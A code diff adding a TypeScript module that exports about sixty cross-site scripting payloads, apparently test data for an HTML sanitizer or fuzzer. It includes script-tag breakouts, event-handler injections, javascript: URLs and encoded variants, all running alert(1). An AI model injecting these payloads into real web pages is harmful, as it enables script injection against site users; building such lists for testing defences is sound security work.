@@ -1,0 +1,73 @@
+/** What each payload would do if a browser ran it. */
+const ACT = "alert(1)";
+
+const TAGS = [
+  `<script>${ACT}</script>`,
+  `"><script>${ACT}</script>`,
+  `</title><script>${ACT}</script>`,
+  `</textarea><script>${ACT}</script>`,
+  `</script><script>${ACT}</script>`,
+  `--><script>${ACT}</script>`,
+  `]]><script>${ACT}</script>`,
+  `<ScRiPt>${ACT}</sCrIpT>`,
+  `<script >${ACT}</script >`,
+  `<script/x>${ACT}</script>`,
+  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
+  `<script src="data:text/javascript,${ACT}"></script>`,
+  `<script type=module>${ACT}</script>`,
+  `<svg><script>${ACT}</script></svg>`,
+  `<svg><script>alert&#40;1)</script></svg>`,
+  `<math><mtext><script>${ACT}</script></mtext></math>`,
+  `<template><script>${ACT}</script></template><script>${ACT}</script>`,
+  `<noscript><p title="</noscript><script>${ACT}</script>">`,
+  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
+  `<object data="data:text/html,<script>parent.${ACT}</script>"></object>`,
+];
+
+const HANDLERS = [
+  `<img src=x onerror=${ACT}>`,
+  `"><img src=x onerror=${ACT}>`,
+  `'><img src=x onerror=${ACT}>`,
+  `<img src=x onerror="${ACT}">`,
+  `<img/src=x/onerror=${ACT}>`,
+  `<IMG SRC=x OnErRoR=${ACT}>`,
+  `<img src=x onerror=&#97;lert(1)>`,
+  `<img src=x onerror=\\u0061lert(1)>`,
+  `<img srcset=x onerror=${ACT}>`,
+  `<image src=x onerror=${ACT}>`,
+  `<svg onload=${ACT}>`,
+  `<svg/onload=${ACT}>`,
+  `"><svg onload=${ACT}>`,
+  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
+  `<svg><set onbegin=${ACT} attributeName=x>`,
+  `<body onload=${ACT}>`,
+  `<video src=x onerror=${ACT}></video>`,
+  `<video><source onerror=${ACT}></video>`,
+  `<audio src=x onerror=${ACT}>`,
+  `<input autofocus onfocus=${ACT}>`,
+  `<textarea autofocus onfocus=${ACT}></textarea>`,
+  `<select autofocus onfocus=${ACT}></select>`,
+  `<button autofocus onfocus=${ACT}>x</button>`,
+  `<a href=# autofocus onfocus=${ACT} tabindex=1>x</a>`,
+  `<div autofocus tabindex=1 onfocus=${ACT}>x</div>`,
+  `<details open ontoggle=${ACT}>x</details>`,
+  `<marquee onstart=${ACT}>x</marquee>`,
+  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${ACT}>x</p>`,
+  `<link rel=stylesheet href=x onerror=${ACT}>`,
+  `" autofocus onfocus=${ACT} x="`,
+];
+
+const ADDRESSES = [
+  `<iframe src="javascript:parent.${ACT}"></iframe>`,
+  `<form action="javascript:${ACT}"><button>x</button></form>`,
+  `<base href="javascript:/a/-${ACT}//">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${ACT}">`,
+  `[x](javascript:${ACT})`,
+  `javascript:${ACT}`,
+  `{{constructor.constructor('${ACT}')()}}`,
+  `\${${ACT}}`,
+  `\\u003cscript\\u003e${ACT}\\u003c/script\\u003e`,
+  `%3Cscript%3E${ACT}%3C/script%3E`,
+];
+
+export const SCRIPT_PAYLOADS: readonly string[] = [...TAGS, ...HANDLERS, ...ADDRESSES];
